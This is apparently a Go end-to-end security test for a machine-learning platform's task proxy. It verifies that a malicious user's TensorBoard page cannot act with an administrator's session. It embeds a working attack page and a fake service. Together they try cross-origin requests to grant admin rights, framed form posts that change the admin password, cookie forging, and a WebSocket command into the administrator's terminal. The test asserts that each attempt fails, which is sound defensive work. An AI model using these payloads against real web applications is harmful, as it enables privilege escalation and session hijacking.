package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/playwright-community/playwright-go"

	"github.com/resolute-ml/resolute"
	"github.com/resolute-ml/resolute/client"
	"github.com/resolute-ml/resolute/e2e/mastertest"
	"github.com/resolute-ml/resolute/handlers/handlerstest"
)

// attackService is what mallory runs as her TensorBoard's service: her
// own `tensorboard` program, shipped in the task's context and found on
// the PATH her task config gives. Every page it serves is the attack page
// (and tries to set the master's cookie); /whoami tells what a request
// brought to the service.
const attackService = `#!/usr/bin/python3
import argparse, http.server, json

p = argparse.ArgumentParser()
p.add_argument("--port", type=int, required=True)
p.add_argument("--host", default="127.0.0.1")
p.add_argument("--path_prefix", default="")
a, _ = p.parse_known_args()
PAGE = open(__file__.rsplit("/", 1)[0] + "/attack.html", "rb").read()
TOKEN = %q

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path.endswith("/whoami"):
            body = json.dumps({"cookie": self.headers.get("Cookie", ""), "authorization": self.headers.get("Authorization", "")}).encode()
            ctype = "application/json"
        else:
            body, ctype = PAGE, "text/html; charset=utf-8"
        self.send_response(200)
        for c in ["auth=" + TOKEN + "; Path=/", "auth=" + TOKEN + "; Path=/; Domain=127.0.0.1",
                  "auth=" + TOKEN + "; Path=/api/v1; Domain=localhost", "=auth=" + TOKEN + "; Path=/"]:
            self.send_header("Set-Cookie", c)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass

srv = http.server.HTTPServer((a.host, a.port), Handler)
print("TensorBoard 2.x at http://%%s:%%d%%s/ (Press CTRL+C to quit)" %% (a.host, a.port, a.path_prefix), flush=True)
srv.serve_forever()
`

// attackPage runs in the administrator's browser on the task origin: it
// tries everything a page of a user's task might to act on the master as
// its viewer, and lists what each attempt got.
const attackPage = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Totally normal TensorBoard</title></head>
<body>
<h1>Mallory's TensorBoard</h1>
<p id="done">running</p>
<pre id="results"></pre>
<form id="go" method="POST" action="{{master}}/admin/users/{{victim}}">
<input name="display_name" value="pwned by a top-level form"><input name="admin" value="on"><input name="active" value="on">
<button id="go-button">Show me the charts</button>
</form>
<script>
const M = "{{master}}", VICTIM = "{{victim}}", SHELL = "{{shell}}", TOKEN = "{{token}}", MARK = "{{mark}}";
const R = {};
async function attempt(name, fn) {
  try { R[name] = String(await fn()); } catch (e) { R[name] = "refused: " + e; }
  document.getElementById("results").textContent = JSON.stringify(R, null, 1);
}
function frameForm(action, fields) {
  return new Promise(res => {
    const f = document.createElement("iframe");
    f.name = "sink-" + Math.random(); f.style.display = "none"; document.body.append(f);
    const form = document.createElement("form");
    form.method = "POST"; form.action = action; form.target = f.name;
    for (const [k, v] of Object.entries(fields)) {
      const i = document.createElement("input"); i.name = k; i.value = v; form.append(i);
    }
    document.body.append(form);
    f.onload = () => res("submitted");
    setTimeout(() => res("no answer"), 5000);
    form.submit();
  });
}
(async () => {
  await attempt("fetch PATCH /api/v1/users as JSON", async () => {
    const r = await fetch(M + "/api/v1/users/" + VICTIM, {method: "PATCH", credentials: "include",
      headers: {"Content-Type": "application/json"}, body: '{"admin": true}'});
    return r.status + " " + await r.text();
  });
  await attempt("fetch PATCH /api/v1/users as text", async () => {
    const r = await fetch(M + "/api/v1/users/" + VICTIM, {method: "PATCH", credentials: "include",
      headers: {"Content-Type": "text/plain"}, body: '{"admin": true}'});
    return r.status + " " + await r.text();
  });
  await attempt("no-cors POST of the admin form", async () => {
    const r = await fetch(M + "/admin/users/" + VICTIM, {method: "POST", mode: "no-cors", credentials: "include",
      body: new URLSearchParams({display_name: "pwned by no-cors", admin: "on", active: "on"})});
    return r.type + " " + r.status;
  });
  await attempt("read the master's API", async () => {
    const r = await fetch(M + "/api/v1/me", {credentials: "include"});
    return r.status + " " + await r.text();
  });
  await attempt("document.cookie", async () => {
    for (const c of ["auth=" + TOKEN + "; path=/", "auth=" + TOKEN + "; path=/api/v1",
                     "auth=" + TOKEN + "; domain=127.0.0.1; path=/", "auth=" + TOKEN + "; domain=localhost; path=/",
                     "auth=" + TOKEN + "; domain=.localhost; path=/", "resolute_task=forged; path=" + location.pathname]) {
      document.cookie = c;
    }
    return document.cookie;
  });
  await attempt("what the service sees", async () => (await fetch("whoami")).text());
  await attempt("the administrator's terminal", () => new Promise(res => {
    const ws = new WebSocket(M.replace("http", "ws") + "/tasks/" + SHELL + "/terminal/ws");
    ws.onopen = () => { ws.send(new Blob(["touch " + MARK + "\n"])); setTimeout(() => res("opened"), 1000); };
    ws.onclose = e => res("closed " + e.code);
  }));
  await attempt("framed POST of the admin form", () => frameForm(M + "/admin/users/" + VICTIM,
    {display_name: "pwned by a framed form", admin: "on", active: "on"}));
  await attempt("framed POST of the API with a form", () => frameForm(M + "/api/v1/users/" + VICTIM, {admin: "true"}));
  await attempt("framed POST of the administrator's password", () => frameForm(M + "/account/password",
    {current: "", password: "mallory-knows", confirm: "mallory-knows"}));
  await attempt("framed logout", () => frameForm(M + "/logout", {}));
  document.getElementById("results").textContent = JSON.stringify(R, null, 1);
  document.getElementById("done").textContent = "done";
})();
</script>
</body></html>
`

// TestATaskPageCannotActAsTheAdministratorWhoOpensIt is the attack of
// issue 15 in a real browser: mallory, an ordinary user, runs her own
// program as her TensorBoard's service; an administrator opens it through
// the normal Open link of the tasks page. Her page tries the master's API
// and forms with the administrator's session, writes the master's cookie
// every way a page can, opens the administrator's terminal and signs them
// out; then the administrator is made to click a button that posts the
// admin form. Afterwards mallory is no administrator, nothing changed,
// and the administrator is still signed in as themself.
func TestATaskPageCannotActAsTheAdministratorWhoOpensIt(t *testing.T) {
	m := handlerstest.Start(t, handlerstest.Options{})
	ctx := context.Background()
	login, err := client.New(m.URL).Login(ctx, "admin", "")
	must(t, err)
	admin := client.New(m.URL, client.WithToken(login.Token))
	for _, name := range []string{"mallory", "carol"} {
		_, err = admin.CreateUser(ctx, resolute.UserSpec{Username: name}, name+"-pw")
		must(t, err)
	}
	mal, err := client.New(m.URL).Login(ctx, "mallory", "mallory-pw")
	must(t, err)
	mallory := client.New(m.URL, client.WithToken(mal.Token))
	victim := fmt.Sprint(mal.User.ID)

	// The administrator has a shell running, which the page will try.
	shell, err := admin.CreateTask(ctx, resolute.TaskShell, resolute.CreateTaskRequest{Config: "resources: {slots: 0}\n"})
	must(t, err)
	mark := filepath.Join(t.TempDir(), "pwned")

	// Mallory's TensorBoard: her own program, in her context, on her PATH.
	paused := false
	exp, err := mallory.CreateExperiment(ctx, resolute.CreateExperimentRequest{
		ExperimentConfigRequest: resolute.ExperimentConfigRequest{Config: "name: bait\nentrypoint: sleep 60\nsearcher: {name: single, metric: loss}\n"},
		Activate:                &paused}, nil, 0, nil)
	must(t, err)
	dir := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, "bin"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "bin", "tensorboard"), []byte(fmt.Sprintf(attackService, mal.Token)), 0o755))
	page := strings.NewReplacer("{{master}}", m.URL, "{{victim}}", victim, "{{shell}}", shell.ID, "{{token}}", mal.Token, "{{mark}}", mark).Replace(attackPage)
	must(t, os.WriteFile(filepath.Join(dir, "bin", "attack.html"), []byte(page), 0o644))
	tb, err := mallory.CreateTask(ctx, resolute.TaskTensorBoard, resolute.CreateTaskRequest{
		ExperimentIDs: []int64{exp.Experiment.ID}, ContextTgz: mastertest.PackDir(t, dir),
		Config: "environment: {environment_variables: [\"PATH=bin:/usr/bin:/bin\"]}\n"})
	must(t, err)
	for deadline := time.Now().Add(60 * time.Second); !tb.Ready || !shell.Ready; time.Sleep(200 * time.Millisecond) {
		tb, err = admin.Task(ctx, resolute.TaskTensorBoard, tb.ID)
		must(t, err)
		shell, err = admin.Task(ctx, resolute.TaskShell, shell.ID)
		must(t, err)
		if tb.State == resolute.TaskTerminated || time.Now().After(deadline) {
			t.Fatalf("mallory's TensorBoard %+v, the shell %+v", tb, shell)
		}
	}

	// The administrator signs in; on the master's own origin their session
	// does change users (carol's display name), which is what the page will
	// try from the task origin.
	browserPage := browser.NewPage(t, 1280)
	signIn(t, browserPage, m.URL, "admin", "")
	must(t, expect(t, browserPage.Locator("h1")).ToHaveText("Welcome, admin"))
	carol, err := m.DB.UserByUsername(ctx, "carol")
	must(t, err)
	status, err := browserPage.Evaluate(`async ([url]) => (await fetch(url, {method: "PATCH", credentials: "include",
		headers: {"Content-Type": "application/json"}, body: '{"displayName": "Carol"}'})).status`, []any{m.URL + "/api/v1/users/" + fmt.Sprint(carol.ID)})
	must(t, err)
	if status != 200 {
		t.Fatalf("the control: a fetch on the master's own origin answers %v, so the attack below would prove nothing", status)
	}
	masterCookies := func() map[string]string {
		cookies, err := browserPage.Context().Cookies(m.URL)
		must(t, err)
		out := map[string]string{}
		for _, c := range cookies {
			out[c.Name] = c.Value
		}
		return out
	}
	before := masterCookies()
	if before["auth"] == "" || len(before) != 1 {
		t.Fatalf("the master's cookies before: %v", before)
	}

	browserPage.Context().OnConsole(func(m playwright.ConsoleMessage) { t.Logf("console: %s", m.Text()) })
	browserPage.Context().OnWebError(func(e playwright.WebError) { t.Logf("page error: %v", e.Error()) })
	// Open, from the tasks page, as always.
	_, err = browserPage.Goto(m.URL + "/tasks")
	must(t, err)
	attack, err := browserPage.Context().ExpectPage(func() error {
		return browserPage.Locator("#open-" + tb.ID).Click()
	})
	must(t, err)
	must(t, playwright.NewPlaywrightAssertions(30000).Page(attack).ToHaveURL(m.TasksURL+"/proxy/"+tb.ID+"/"))
	if err := playwright.NewPlaywrightAssertions(60000).Locator(attack.Locator("#done")).ToHaveText("done"); err != nil {
		partial, _ := attack.Locator("#results").TextContent()
		t.Fatalf("the attack page did not finish: %v\nso far: %s", err, partial)
	}
	screenshot(t, attack, "task-origin-attack-page")
	text, err := attack.Locator("#results").TextContent()
	must(t, err)
	var results map[string]string
	must(t, json.Unmarshal([]byte(text), &results))
	t.Logf("what the attack page got:\n%s", text)
	taskCookies, err := browserPage.Context().Cookies(m.TasksURL + "/proxy/" + tb.ID + "/")
	must(t, err)
	for _, c := range taskCookies {
		if c.Name == "resolute_task" && (!c.HttpOnly || strings.Contains(results["document.cookie"], c.Value)) {
			t.Errorf("the page can read the task cookie: %+v; document.cookie %q", c, results["document.cookie"])
		}
	}
	if seen := results["what the service sees"]; strings.Contains(seen, "auth=") || strings.Contains(seen, "resolute_task") || strings.Contains(seen, "Bearer") {
		t.Errorf("the service saw a credential: %s", seen)
	}
	for _, name := range []string{"fetch PATCH /api/v1/users as JSON", "fetch PATCH /api/v1/users as text", "read the master's API"} {
		if !strings.HasPrefix(results[name], "refused: TypeError") {
			t.Errorf("%s: %s, want a refused fetch", name, results[name])
		}
	}
	if results["the administrator's terminal"] == "opened" {
		t.Errorf("the page opened the administrator's terminal")
	}

	// The last try: the administrator clicks the page's button, which posts
	// the admin form to the master at the top level.
	must(t, attack.Locator("#go-button").Click())
	must(t, playwright.NewPlaywrightAssertions(15000).Page(attack).ToHaveURL(regexp.MustCompile("^"+regexp.QuoteMeta(m.URL))))
	screenshot(t, attack, "task-origin-attack-top-level-form")

	// Nothing changed, and the administrator is still themself.
	me, err := m.DB.UserByUsername(ctx, "mallory")
	must(t, err)
	if me.Admin || !me.Active || me.DisplayName != "" {
		t.Errorf("mallory after the attack: %+v", me.User)
	}
	if a, err := m.DB.UserByUsername(ctx, "admin"); err != nil || !a.Admin || a.HasPassword {
		t.Errorf("the administrator after the attack: %+v, %v", a.User, err)
	}
	if _, err := os.Stat(mark); err == nil {
		t.Errorf("the page ran a command in the administrator's terminal")
	}
	if after := masterCookies(); len(after) != 1 || after["auth"] != before["auth"] {
		t.Errorf("the master's cookies changed: before %v, after %v", before, after)
	}
	who, err := client.New(m.URL, client.WithToken(before["auth"])).Me(ctx)
	if err != nil || who.Username != "admin" {
		t.Errorf("the administrator's session after the attack: %+v, %v", who, err)
	}
	_, err = browserPage.Goto(m.URL + "/dashboard")
	must(t, err)
	must(t, expect(t, browserPage.Locator("h1")).ToHaveText("Welcome, admin"))
	screenshot(t, browserPage, "task-origin-attack-after")
}
